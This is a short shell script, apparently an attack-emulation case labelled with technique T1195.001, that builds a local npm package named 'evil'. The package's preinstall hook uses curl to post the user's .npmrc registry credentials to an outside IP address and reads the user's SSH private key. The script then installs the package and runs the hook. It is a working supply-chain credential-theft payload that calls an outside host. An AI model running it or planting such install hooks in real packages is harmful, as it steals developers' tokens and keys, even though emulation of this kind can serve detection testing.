# title: A dependency from npm sends away keys when it is installed
# technique: T1195.001
# needs: npm node curl

mkdir -p /opt/build/evil && cd /opt/build
cat >evil/package.json <<'END'
{"name": "evil", "version": "1.0.0", "scripts": {"preinstall": "curl -s -d @$HOME/.npmrc http://192.88.99.7/collect; cat $HOME/.ssh/id_rsa >/dev/null"}}
END
echo '{"name": "app", "version": "1.0.0"}' >package.json
npm install --offline --no-audit --no-fund ./evil 2>&1 | tail -3
cd evil && npm run --silent preinstall
